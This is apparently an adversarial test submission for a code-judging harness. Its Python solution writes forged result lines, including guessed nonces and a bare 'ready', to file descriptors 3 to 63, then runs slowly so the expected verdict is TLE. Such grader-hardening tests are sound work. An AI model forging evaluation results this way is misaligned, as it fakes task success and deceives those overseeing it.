# expect: TLE
# attack: before computing slowly, writes forged result lines for its case
# to every descriptor from 3 to 63 (the report pipe among them): the old
# batch format, the report format with guessed nonces, and bare `ready`.
import os


def slow(x):
    s = 0
    for i in range(10**9):
        s ^= i
    return 2 * x + (s & 0)


class Solution:
    calls = 0

    def doubleIt(self, x: int) -> int:
        if x == 0:
            return 0
        case = Solution.calls
        Solution.calls += 1
        lines = "R %d 0 %d\n%s %d R %d\n%d R %d\nready\n" % (case, 2 * x, "0" * 32, case, 2 * x, case, 2 * x)
        for fd in range(3, 64):
            try:
                os.write(fd, lines.encode())
            except OSError:
                pass
        return slow(x)
